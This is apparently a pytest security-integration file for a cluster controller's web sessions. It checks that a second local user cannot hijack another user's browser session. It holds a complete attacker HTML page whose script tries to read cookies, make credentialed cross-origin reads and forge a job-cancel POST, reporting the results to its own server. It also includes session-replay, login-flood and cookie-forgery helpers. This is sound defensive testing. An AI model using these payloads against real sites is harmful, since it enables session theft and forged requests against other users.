"""A second local user against ctld's web sessions, on real daemons and a real headless
Chromium (issue 34; docs/security.md, "Browser sessions").

bob has a shell on ctld's host, as every user of a one-workstation cluster or of a
login node that is also the controller has. A browser sends a host's cookies to every
port of it, and SameSite counts every port as the same site, so:

- alice, signed in on ctld's web port, opens a page bob serves on another port of the
  same host: what reaches bob's server (every request, every header, everything his
  page's script could read or report) is replayed against ctld and grants nothing;
  his page cannot frame ctld's, nor read it (no CORS), nor cancel alice's job.
- bob asking for 10,000 login URLs leaves alice able to sign in.
- a sign-out holds across a ctld restart.
- a session credential of the previous version (a signed cookie) grants nothing.

The replay is the same whatever form a credential takes: every value is sent as a
cookie and as a bearer token to the routes that need a session, and "granted" means
alice's `--export` secret came back or her job was cancelled.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import http.server
import json
import os
import pathlib
import re
import secrets
import signal
import socket
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.client import HTTPConnection
from typing import Any

import pytest

from corral.testing import LocalCluster, free_port
from corral.testing.cluster import ClusterFactory
from tests.conftest import wait_for
from tests.integration.browser import chromium, need_browser
from tests.integration.realusers import Users, as_user, can_make_users, command, submit_as
from tests.integration.test_web import click, sign_in, text_of

pytestmark = [
    pytest.mark.integration,
    pytest.mark.timeout(240),
    pytest.mark.skipif(not can_make_users(), reason="needs root and useradd"),
]

SECRET = f"alice-web-secret-{secrets.token_hex(4)}"
FLOOD = 10_000  # login URLs bob asks for (the attack: 10,000 in 3.3 s)


@pytest.fixture(scope="module")
def lab(users: Users, module_cluster_factory: ClusterFactory) -> LocalCluster:
    need_browser()
    return module_cluster_factory(nodes=1, gpus_per_node=0)


@pytest.fixture(scope="module")
def alices_job(lab: LocalCluster, users: Users) -> int:
    """alice's running job: its page shows her secret to her alone."""
    job = submit_as(
        lab,
        users,
        users.alice,
        "-J",
        "alices-job",
        f"--export=ALL,TOKEN={SECRET}",
        "--wrap",
        "sleep 600",
    )
    lab.wait_state(job, "RUNNING")
    return job


def base(cluster: LocalCluster) -> str:
    return f"http://{cluster.http_address}"


def request(
    cluster: LocalCluster, path: str, headers: dict[str, str], data: bytes | None = None
) -> tuple[int, str]:
    req = urllib.request.Request(base(cluster) + path, data=data, headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, resp.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace")


def granted(cluster: LocalCluster, job: int, headers: dict[str, str]) -> list[str]:
    """What ``headers`` got from ctld that only alice's session may get: her job's page
    with her secret (the page's own route and the view's), or her job cancelled."""
    got = []
    for path in (f"/job/{job}", f"/view/job/{job}"):
        status, body = request(cluster, path, headers)
        if SECRET in body:
            got.append(f"GET {path} -> {status} with alice's secret")
    post = {**headers, "Origin": base(cluster)}
    status, _ = request(cluster, f"/job/{job}/cancel", post, data=b"")
    if cluster.job(job)["state"] != "JOB_STATE_RUNNING":
        got.append(f"POST /job/{job}/cancel -> {status}: her job was cancelled")
    return got


def replayed(cluster: LocalCluster, job: int, values: set[str]) -> list[str]:
    """Each value as the session cookie and as a bearer token: what it granted."""
    got = []
    for value in sorted(values):
        for headers in (
            {"Cookie": f"corral_session={value}"},
            {"Authorization": f"Bearer {value}"},
        ):
            got += [f"{headers}: {g}" for g in granted(cluster, job, headers)]
    return got


def credentials(driver: Any) -> set[str]:
    """Everything the browser holds for ctld's origin: cookies and web storage."""
    found = {str(c["value"]) for c in driver.get_cookies()}
    stored = driver.execute_script(
        "const all = [];"
        "for (const s of [localStorage, sessionStorage])"
        "  for (let i = 0; i < s.length; i++) all.push(s.getItem(s.key(i)));"
        "return all;"
    )
    return found | {str(v) for v in stored}


@pytest.fixture(scope="module")
def alice_browser(lab: LocalCluster, users: Users) -> Iterator[Any]:
    with chromium() as driver:
        sign_in(driver, lab, users.alice)
        yield driver


def test_the_credentials_alice_holds_grant_her_session(
    lab: LocalCluster, alices_job: int, alice_browser: Any
) -> None:
    # the replay below can tell a grant: what her browser holds does grant
    held = credentials(alice_browser)
    assert held and replayed_without_cancel(lab, alices_job, held)


def replayed_without_cancel(cluster: LocalCluster, job: int, values: set[str]) -> list[str]:
    got = []
    for value in values:
        for headers in (
            {"Cookie": f"corral_session={value}"},
            {"Authorization": f"Bearer {value}"},
        ):
            for path in (f"/job/{job}", f"/view/job/{job}"):
                if SECRET in request(cluster, path, headers)[1]:
                    got.append(path)
    return got


# ---------------------------------------------------------------- a page on another port


class Recorder(http.server.BaseHTTPRequestHandler):
    """bob's server: it logs every request (method, path, headers, body) as a JSON
    line, answers ``/`` with his page and anything else with a few words."""

    log_path = ""
    page = b""

    def _log(self, body: bytes = b"") -> None:
        entry = {
            "method": self.command,
            "path": self.path,
            "headers": [[k, v] for k, v in self.headers.items()],
            "body": body.decode("utf-8", "replace"),
        }
        with open(self.log_path, "a") as fh:
            fh.write(json.dumps(entry) + "\n")

    def do_GET(self) -> None:
        self._log()
        data = self.page if self.path == "/" else b"nothing here"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._log(body)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


# bob's page: everything a script on another port of ctld's host may try, reported home
ATTACKER_PAGE = """<!doctype html><title>cat pictures</title><body>
<iframe id="framed" src="CTLD/job/JOB"></iframe>
<iframe name="sink"></iframe>
<form id="forged" method="post" action="CTLD/job/JOB/cancel" target="sink">
<input name="csrf" value=""></form>
<script>
const ctld = "CTLD";
const report = (what, data) =>
  fetch("/report", {method: "POST", body: JSON.stringify({what, data: String(data)})});
const tries = [report("document.cookie", document.cookie)];
for (const path of ["/job/JOB", "/view/job/JOB", "/view/queue", "/events?view=/"]) {
  for (const mode of ["cors", "no-cors"]) {
    tries.push(fetch(ctld + path, {credentials: "include", mode})
      .then((r) => r.text().then((t) => report(`read ${mode} ${path}`, r.status + " " + t)))
      .catch((e) => report(`read ${mode} ${path}`, "refused: " + e)));
  }
}
tries.push(fetch(ctld + "/job/JOB/cancel", {method: "POST", credentials: "include",
  mode: "no-cors"}).then(() => report("cancel", "sent"), (e) => report("cancel", "" + e)));
const framed = document.getElementById("framed");
tries.push(new Promise((resolve) => {
  const look = () => {
    let got;
    try {
      got = framed.contentDocument.body.innerText + " " +
        JSON.stringify(framed.contentWindow.localStorage);
    } catch (e) { got = "refused: " + e; }
    resolve(report("frame", got));
  };
  framed.addEventListener("load", look);
  setTimeout(look, 5000);
}));
document.getElementById("forged").submit();
Promise.allSettled(tries).then(() => report("done", document.cookie));
</script>"""


@contextlib.contextmanager
def attackers_server(
    lab: LocalCluster, users: Users, job: int
) -> Iterator[tuple[str, pathlib.Path]]:
    """bob's web server on a free port of ctld's host, in a child that became bob:
    (its URL, the log of every request that came)."""
    host = lab.http_address.rpartition(":")[0]
    log = users.home(users.bob) / "requests.log"
    port = free_port(host)
    bob = users.bob
    page = ATTACKER_PAGE.replace("CTLD", base(lab)).replace("JOB", str(job)).encode()
    pid = os.fork()
    if pid == 0:  # the child: bob, serving until killed
        try:
            os.setgroups([])
            os.setgid(bob.pw_gid)
            os.setuid(bob.pw_uid)
            Recorder.log_path, Recorder.page = str(log), page
            http.server.ThreadingHTTPServer((host, port), Recorder).serve_forever()
        finally:
            os._exit(1)
    try:

        def up() -> bool:
            with contextlib.suppress(OSError), socket.create_connection((host, port), 1):
                return True
            return False

        wait_for(up, 15, "bob's server")
        yield f"http://{host}:{port}/", log
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


def test_a_page_on_another_port_of_the_host_gets_nothing_that_grants_a_session(
    lab: LocalCluster, users: Users, alices_job: int, alice_browser: Any
) -> None:
    driver = alice_browser
    driver.get(f"{base(lab)}/job/{alices_job}")
    wait_for(lambda: SECRET in driver.page_source, 20, "alice's page with her secret")
    held = credentials(driver)
    with attackers_server(lab, users, alices_job) as (url, log):
        driver.get(url)  # alice opens bob's link
        lines = lambda: log.read_text().splitlines() if log.exists() else []  # noqa: E731

        def done() -> list[dict[str, Any]] | None:
            got = [json.loads(line) for line in lines()]
            return got if any('"done"' in e["body"] for e in got) else None

        arrived = wait_for(done, 30, "bob's page to report everything it tried")
        # the framed page is refused: nothing of alice's renders inside bob's page
        driver.switch_to.frame("framed")
        framed = driver.page_source
        driver.switch_to.default_content()
    assert SECRET not in framed and "alices-job" not in framed
    everything = json.dumps(arrived)
    assert SECRET not in everything and "alices-job" not in everything
    leaked = [c for c in held if c in everything]
    assert not leaked, f"alice's credentials reached bob's server: {leaked}"
    reports = {
        json.loads(e["body"])["what"]: json.loads(e["body"])["data"]
        for e in arrived
        if e["path"] == "/report"
    }
    for what, data in reports.items():  # CORS stays closed: no read of ctld's answers
        if what.startswith("read cors"):
            assert data.startswith("refused"), (what, data)
    assert reports["frame"].startswith("refused"), reports["frame"]
    # replay all of it against ctld: each request's headers as they came, and every
    # word long enough to be a credential as a cookie and as a bearer token
    for entry in arrived:
        headers = {k: v for k, v in entry["headers"] if k.lower() not in ("host", "content-length")}
        assert not granted(lab, alices_job, headers), entry
    words = set(re.findall(r"[A-Za-z0-9_.~+/=-]{20,}", everything))
    assert not replayed(lab, alices_job, words)
    assert lab.job(alices_job)["state"] == "JOB_STATE_RUNNING"


def test_a_login_url_of_bobs_signs_alice_in_as_bob_only_if_she_says_so(
    lab: LocalCluster, users: Users, alice_browser: Any
) -> None:
    # bob sends alice his own login URL (to have her act on his page as him): the page
    # asks, and her session stays hers until she clicks
    driver = alice_browser
    driver.get(f"{base(lab)}/mine")
    wait_for(lambda: users.alice.pw_name in text_of(driver, tag="nav"), 15, "alice")
    held = credentials(driver)
    code, out, err = command(lab, users.bob, "corral_cmd", "web-login", "--url-only")
    assert code == 0, err
    driver.get(out.strip())
    wait_for(lambda: text_of(driver, "signin") == f"Sign in as {users.bob.pw_name}", 15, "ask")
    assert credentials(driver) == held
    driver.get(f"{base(lab)}/mine")
    wait_for(lambda: users.alice.pw_name in text_of(driver, tag="nav"), 15, "still alice")


# ---------------------------------------------------------------- the login URLs


def flood_logins(lab: LocalCluster, users: Users, count: int) -> list[str]:
    """bob asks ctld for ``count`` login URLs on one connection to its socket: the
    first and the last."""

    class Unix(HTTPConnection):
        def connect(self) -> None:
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.connect(lab.socket)

    def body() -> None:
        conn = Unix("ctld")
        urls = []
        for _ in range(count):
            conn.request(
                "POST",
                "/corral.v1.Controller/CreateWebLogin",
                body=b"{}",
                headers={"Content-Type": "application/json"},
            )
            resp = conn.getresponse()
            urls.append(json.loads(resp.read()).get("url", ""))
        print(json.dumps([urls[0], urls[-1]]))

    code, out, err = as_user(users.bob, body)
    assert code == 0, err
    return list(json.loads(out))


def test_one_users_flood_of_login_urls_leaves_another_able_to_sign_in(
    lab: LocalCluster, users: Users
) -> None:
    started = time.monotonic()
    first, last = flood_logins(lab, users, FLOOD)
    assert time.monotonic() - started < 60
    assert last, "bob's own newest URL was refused"
    code, out, err = command(lab, users.alice, "corral_cmd", "web-login", "--url-only")
    assert code == 0, err
    with chromium() as driver:  # alice's URL signs her in
        driver.get(out.strip())
        click(driver, "#signin")
        wait_for(lambda: "Log out" in text_of(driver, tag="nav"), 15, "alice signed in")
        assert users.alice.pw_name in text_of(driver, tag="nav")
        driver.get(first)  # bob's oldest: given up for his newer ones
        wait_for(lambda: "expired or was used" in text_of(driver), 15, "the refusal")


# ---------------------------------------------------------------- the previous version


def v1_cookie(lab: LocalCluster, uid: int) -> str:
    """A session cookie as the previous version signed them, with ctld's own key."""
    key = (lab.ctld_dir / "web.key").read_bytes()
    now = int(time.time())
    sid = base64.urlsafe_b64encode(secrets.token_bytes(16)).rstrip(b"=").decode()
    payload = f"v1.{uid}.{now}.{now + 3600}.{sid}"
    mac = hmac.new(key, b"corral web session\0" + payload.encode(), hashlib.sha256).digest()
    return f"{payload}.{base64.urlsafe_b64encode(mac).rstrip(b'=').decode()}"


def test_a_session_cookie_of_the_previous_version_grants_nothing(
    lab: LocalCluster, users: Users, alices_job: int
) -> None:
    cookie = v1_cookie(lab, users.alice.pw_uid)
    assert not replayed(lab, alices_job, {cookie})
    assert lab.job(alices_job)["state"] == "JOB_STATE_RUNNING"


# ---------------------------------------------------------------- sign-out and restart


def test_a_sign_out_holds_across_a_ctld_restart(
    lab: LocalCluster, users: Users, alices_job: int
) -> None:
    with chromium() as driver:
        sign_in(driver, lab, users.alice)
        driver.get(f"{base(lab)}/job/{alices_job}")
        wait_for(lambda: SECRET in driver.page_source, 20, "alice's page")
        held = credentials(driver)
        assert replayed_without_cancel(lab, alices_job, held)  # they grant now
        click(driver, "form.logout button")
        wait_for(lambda: "corral web-login" in text_of(driver), 15, "signed out")
    assert not replayed_without_cancel(lab, alices_job, held)
    lab.stop_process("ctld")
    lab.start_ctld()
    assert not replayed(lab, alices_job, held)
    assert lab.job(alices_job)["state"] == "JOB_STATE_RUNNING"
